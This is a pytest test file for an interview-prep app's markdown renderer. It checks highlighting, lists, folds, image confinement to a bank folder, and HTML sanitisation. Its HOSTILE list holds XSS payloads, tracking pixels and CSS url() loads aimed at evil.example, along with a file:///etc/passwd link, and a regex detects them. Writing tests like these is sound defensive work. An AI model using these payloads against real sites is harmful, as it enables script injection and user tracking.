"""Markdown rendering: each construct's HTML structure, hostile input, the bundled bank."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from conftest import doc
from interview_prep.bank.loader import load_catalog
from interview_prep.paths import bundled_bank_dir
from interview_prep.render import DARK, LIGHT, RenderCache, render_answer


def test_fenced_code_is_highlighted_by_its_language() -> None:
    markup = render_answer("```python\ndef f(x):\n    return x  # done\n```")
    assert '<table class="code"' in markup
    assert re.search(r'<span style="color:#008000;font-weight:bold">def</span>', markup)
    assert re.search(r'<span style="color:#3D7B7B;font-style:italic"># done</span>', markup)
    assert "line-height" not in markup  # Qt draws it as gaps between lines


def test_unlabelled_fence_is_plain_monospace_never_guessed() -> None:
    markup = render_answer("```\ndef f(x):\n    return x\n```")
    assert "<pre" in markup and "def f(x):" in markup
    assert "<span" not in markup


def test_code_colours_follow_the_theme() -> None:
    light = render_answer("```python\nimport os\n```")
    dark = render_answer("```python\nimport os\n```", dark=True)
    assert f'bgcolor="{LIGHT.code_background}"' in light
    assert f'bgcolor="{DARK.code_background}"' in dark
    assert light != dark


def test_inline_code_keeps_its_text_and_gets_a_tint() -> None:
    markup = render_answer("Use `a < b` here")
    assert f'<code style="background-color: {LIGHT.inline_code_background};">a &lt; b</code>' in (
        markup
    )


def test_tables_have_borders_header_shading_and_cells() -> None:
    markup = render_answer(
        "| Mode | Slot |\n| :--- | ---: |\n| poke | held |\n| reschedule | freed |"
    )
    assert '<table border="1"' in markup
    assert markup.count(f'<th bgcolor="{LIGHT.header_background}"') == 2
    assert re.findall(r"<td[^>]*>([^<]*)</td>", markup) == ["poke", "held", "reschedule", "freed"]


@pytest.mark.parametrize("indent", [2, 3, 4])
def test_nested_lists_with_two_three_or_four_space_indents(indent: int) -> None:
    pad = " " * indent
    markup = render_answer(f"- outer\n{pad}- inner\n{pad}{pad}- innermost\n- second")
    assert re.search(r"<li>outer<ul>\s*<li>inner<ul>\s*<li>innermost</li>", markup)
    assert markup.count("<ul>") == 3


def test_ordered_list_with_nested_bullets_as_in_the_seeds() -> None:
    markup = render_answer(
        doc(
            """
            Apache Airflow Sensors can operate in two modes:

            1. **Poke Mode:**
               - The sensor task is running continuously.
               - It consumes a worker slot while waiting.

            2. **Reschedule Mode:**
               - The sensor task suspends itself.
            """
        )
    )
    assert re.search(r"<ol>\s*<li>\s*<p><strong>Poke Mode:</strong></p>\s*<ul>", markup)
    assert markup.count("<ul>") == 2 and markup.count("<li>") == 5


def test_list_right_under_a_paragraph_is_a_list() -> None:
    markup = render_answer("**Triggers:**\n- **Purpose:** start things\n- **Usage:** often")
    assert "<ul>" in markup and markup.count("<li>") == 2


def test_blockquote_headings_and_rules() -> None:
    markup = render_answer("# Title\n\n#### Small\n\n> quoted *text*\n\n---\n\nafter")
    assert '<h1 style="font-size: x-large;">Title</h1>' in markup
    assert '<h4 style="font-size: medium;">Small</h4>' in markup
    assert re.search(r"<blockquote>\s*<p>quoted <em>text</em></p>\s*</blockquote>", markup)
    assert "<hr>" in markup


def test_details_collapsed_shows_only_the_summary() -> None:
    text = "Intro\n\n<details><summary>Why **this**?</summary>\n\nHidden *body*\n</details>\n"
    closed = render_answer(text)
    assert '<a href="details:0"' in closed and "▸ Why <strong>this</strong>?" in closed
    assert "Hidden" not in closed
    opened = render_answer(text, expanded={0})
    assert "▾ Why" in opened and "Hidden <em>body</em>" in opened  # markdown inside HTML


def test_nested_details_number_in_document_order() -> None:
    text = doc(
        """
        <details><summary>Outer</summary>

        outer body

        <details><summary>Inner</summary>

        inner body
        </details>
        </details>

        <details><summary>Second</summary>
        second body
        </details>
        """
    )
    assert re.findall(r'href="details:(\d)"', render_answer(text)) == ["0", "2"]
    both = render_answer(text, expanded={0, 1})
    assert "outer body" in both and "inner body" in both and "second body" not in both
    assert "inner body" not in render_answer(text, expanded={1})  # inside a closed fold
    assert re.findall(r'href="details:(\d)"', render_answer(text, first_fold=5)) == ["5", "7"]


def test_markdown_inside_raw_html_blocks_is_rendered() -> None:
    markup = render_answer('<div align="center">\n\n**bold** and `code`\n\n</div>')
    assert "<strong>bold</strong>" in markup and "<code" in markup


def test_local_images_load_only_from_the_bank_folder(tmp_path: Path) -> None:
    bank = tmp_path / "bank"
    bank.mkdir()
    (bank / "diagram.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (tmp_path / "secret.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    markup = render_answer(
        "![flow](diagram.png) ![escape](../secret.png) ![missing](none.png)", base_dir=bank
    )
    assert f'<img src="{(bank / "diagram.png").as_uri()}" alt="flow">' in markup
    assert "secret" not in markup.replace("[image: escape]", "")
    assert "[image: escape]" in markup and "[image: missing]" in markup


def test_remote_image_is_a_link_placeholder_and_nothing_is_fetched() -> None:
    markup = render_answer("![chart](https://example.com/chart.png)")
    assert "<img" not in markup
    assert '<a href="https://example.com/chart.png">[image: chart]</a>' in markup


@pytest.mark.parametrize(
    "markup",
    [
        '<image src="{outside}">',
        '<IMAGE SRC="{outside}" alt=x>',
        '<image src="file://host/share/x.png">',
        '<img src="file://server{outside_path}">',
        '<p><image src="{outside}"></image></p>',
        '<table><tr><td><image src="{outside}"></td></tr></table>',
    ],
)
def test_only_images_inside_the_bank_folder_survive_whatever_the_parser_makes(
    tmp_path: Path, markup: str
) -> None:
    """nh3 turns <image> into <img>, and Qt then loads the file itself: an image anywhere
    on disk, or on a network share (file://host/… on Windows), was shown."""
    bank = tmp_path / "bank"
    bank.mkdir()
    (bank / "inside.png").write_bytes(b"\x89PNG")
    outside = tmp_path / "outside.png"
    outside.write_bytes(b"\x89PNG")
    text = markup.format(outside=outside.as_uri(), outside_path=outside)
    rendered = render_answer(text + '\n\n<img src="inside.png" alt="ok">', base_dir=bank)
    images = re.findall(r"<img\b[^>]*>", rendered)
    assert images == [f'<img src="{(bank / "inside.png").as_uri()}" alt="ok">']
    assert "[image:" in rendered


@pytest.mark.parametrize(
    "style",
    [
        "background:url(http://evil.example/x.png)",
        "background: URL( 'http://evil.example/x.png' )",
        "color: red; background-image: url(file:///etc/x.png)",
        "background: \\75 rl(http://evil.example/x.png)",
    ],
)
def test_no_style_that_can_load_anything_survives(style: str) -> None:
    rendered = render_answer(f'<span style="{style}">text</span>')
    assert "url" not in rendered.lower().replace("<span>text</span>", "")
    assert "evil" not in rendered and "file:" not in rendered
    assert "text" in rendered


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name="q"><button>Go</button></form>',
    "<style>body { background: url(https://evil.example/track) }</style>",
    '<span style="background-image: url(https://evil.example/t.png)">x</span>',
    '<div style="position: fixed; top: 0; width: 100%">overlay</div>',
    '<p style="behavior: url(x.htc); expression(alert(1))">x</p>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "![tracker](https://evil.example/pixel.gif)",
    '<img src="https://evil.example/pixel.gif" width=1 height=1>',
    '<base href="https://evil.example/">',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>',
    '<a href="file:///etc/passwd">local file</a>',
    "<!-- <script>alert(1)</script> -->",
]

FORBIDDEN = re.compile(
    r"<script|<iframe|<object|<embed|<form|<input|<button|<style|<svg|<math|<meta|<link|<base"
    r"|\son\w+=|javascript:|vbscript:|data:|url\(|expression\(|position:|evil\.example/t"
    r"|file:///etc|<img[^>]*https?:",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_input_does_not_survive(payload: str) -> None:
    for dark in (False, True):
        markup = render_answer(f"Before\n\n{payload}\n\nAfter", dark=dark, expanded={0})
        assert not FORBIDDEN.search(markup), markup
        assert "Before" in markup and "After" in markup


def test_remote_links_survive_as_links() -> None:
    markup = render_answer("[docs](https://airflow.apache.org) <mailto:me@example.com>")
    assert '<a href="https://airflow.apache.org">docs</a>' in markup
    assert 'href="mailto:me@example.com"' in markup


def test_every_bundled_question_and_answer_renders() -> None:
    catalog = load_catalog(bundled_bank_dir(), None)
    assert len(catalog) == 82
    for question in catalog.questions():
        for dark in (False, True):
            assert render_answer(question.question, dark=dark)
            if question.answer:
                markup = render_answer(question.answer, dark=dark, expanded=range(10))
                assert "IPDETAILS" not in markup and "<details" not in markup


def test_cache_hits_and_invalidates() -> None:
    cache = RenderCache()
    first = cache.render("*a*", question_id="q1")
    assert cache.render("*a*", question_id="q1") is first
    assert cache.hits == 1
    assert cache.render("*b*", question_id="q1") != first  # edited text: never stale
    cache.render("*a*", question_id="q1", dark=True)
    assert (cache.hits, cache.misses) == (1, 3)  # the theme is part of the key
    cache.invalidate("q1")
    assert len(cache) == 0
